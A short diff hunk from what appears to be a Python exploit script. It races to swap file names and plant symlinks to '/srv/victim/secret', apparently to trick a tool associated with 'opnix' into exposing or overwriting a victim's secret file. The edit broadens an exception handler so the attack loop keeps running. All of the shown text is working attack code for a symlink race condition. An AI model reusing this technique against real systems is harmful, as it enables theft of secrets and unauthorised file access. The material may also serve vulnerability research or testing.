@@ -136,7 +136,7 @@ while not os.path.exists('stop'):
         file, new = f'file-{number}'.encode(), f'.file-{number}.opnix-new'.encode()
         if rounds % 7 == 0:
             try: os.symlink('/srv/victim/secret', new)
-            except FileExistsError: pass
+            except OSError: pass
         for other in mine:
             for name in (file, new):
                 if swap(-100, other, -100, name, 2) == 0: swap(-100, other, -100, name, 2)
